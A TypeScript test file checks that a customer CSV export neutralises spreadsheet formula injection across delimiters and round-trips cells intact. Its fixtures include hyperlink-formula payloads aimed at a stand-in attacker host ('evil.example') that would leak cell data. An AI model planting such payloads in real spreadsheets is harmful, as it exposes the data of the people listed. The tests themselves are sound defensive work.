/** A table of customers opened in a spreadsheet runs no formula and loses no letter, whatever people call themselves. */
import 'fake-indexeddb/auto';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BOM, csvLines, guarded, unguarded } from '../../../lib/privacy/csv/cells';
import { COLUMNS, customersCsv } from '../../../lib/privacy/csv/customers';
import { writeCaptures } from '../../../lib/store/write';
import { capture, freshDb, NOW } from '../store/make';

const START = /^[=+\-@\t\r\n]/;
const nasty = fc.array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ';', ' ', 'a', 'ü', '🫖', '＝', '\u202e'), {
  maxLength: 8,
});
const cell = fc.oneof(
  nasty.map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
const parsed = (text: string): string[][] =>
  Papa.parse<string[]>(text, { newline: '\r\n', delimiter: ',' }).data.filter((row) => row.length > 1 || row[0] !== '');

/** What begins a formula once a spreadsheet has skipped what it skips. */
const FORMULA = /^["\s]*[=+\-@＝＋－＠]/;

/** Cells as a spreadsheet finds them whose border is a semicolon: quotes count at the beginning of a cell alone. */
function semicolonCells(text: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at < text.length;) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
        cell += text[at];
        if (text[at] === '"') at++;
      }
      at++;
    }
    for (; at < text.length && !/[;\r\n]/.test(text[at] ?? ''); at++) cell += text[at];
    cells.push(cell);
    at++;
  }
  return cells;
}

describe('a table for spreadsheets', () => {
  it('holds no formula either where a semicolon is the border of cells', () => {
    const evil = 'Mara;=HYPERLINK("https://evil.example/?"&A1)';
    expect(semicolonCells(csvLines([['x:1', evil]]).replaceAll("'", ''))).toContainEqual(expect.stringMatching(FORMULA));
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(cell, fc.constant(evil)), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        for (const one of semicolonCells(csvLines(rows))) expect(one).not.toMatch(FORMULA);
      }),
      { numRuns: 500 },
    );
  });

  it('holds no cell that begins a formula, and every cell comes back as it was once its guard is off', () => {
    let cells = 0;
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const read = parsed(csvLines(rows));
        for (const row of read) for (const one of row) expect(one).not.toMatch(START);
        expect(read.map((row) => row.map(unguarded))).toEqual(rows);
        cells += rows.flat().length;
      }),
      { numRuns: 2_000 },
    );
    console.log(`S17 ${cells} cells formulas 0 differing 0 ok`);
  });

  it('takes off its own guard and no other apostrophe', () => {
    for (const word of ["'", "''", "'=1", "''=1", "'a", '=1', '-', "'-'", 'a;=1', "a;'=1", 'a; "=1', ' =1', "' =1", '"=1', '\n=1', 'a;b', "a;'b"])
      expect(unguarded(guarded(word))).toBe(word);
    expect(guarded('@mara')).toBe("'@mara");
    expect(guarded("'a")).toBe("'a");
  });

  it('has every customer with an identifier, Chatwoot’s columns first, and leaves damaged rows out', async () => {
    const db = await freshDb();
    await writeCaptures(db, [capture({ id: '1', author: { handle: 'mara_k', name: '=HYPERLINK("https://evil.example")' }, text: 'Brindle?' })], {
      now: NOW,
      savedBy: 'rule',
    });
    await db.customers.bulkPut([
      { id: 'zz', name: 'Nobody’s author', tags: ['a', '+b'], dontContact: true, since: NOW, lastAt: NOW },
      { id: 'zzz', name: 7 } as never,
    ]);
    const { file, rows, left } = await customersCsv(db, { signal: new AbortController().signal, progress: () => undefined });
    const bytes = new Uint8Array(await file.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.startsWith(`${BOM}"id","name","email","identifier",`)).toBe(true);
    expect([rows, left]).toEqual([2, 1]);
    const [head, ...people] = parsed(text.slice(1));
    expect(head).toEqual([...COLUMNS]);
    const of = (row: string[] | undefined, name: (typeof COLUMNS)[number]): string => row?.[COLUMNS.indexOf(name)] ?? '';
    const mara = people.find((row) => of(row, 'identifier') === 'x:mara_k');
    expect(of(mara, 'name')).toBe('\'=HYPERLINK("https://evil.example")');
    expect(of(mara, 'entries')).toBe('1');
    const other = people.find((row) => of(row, 'identifier') === 'earshot:zz');
    expect([of(other, 'tags'), of(other, 'please_dont_contact'), of(other, 'entries')]).toEqual(['a, +b', 'yes', '0']);
  });
});
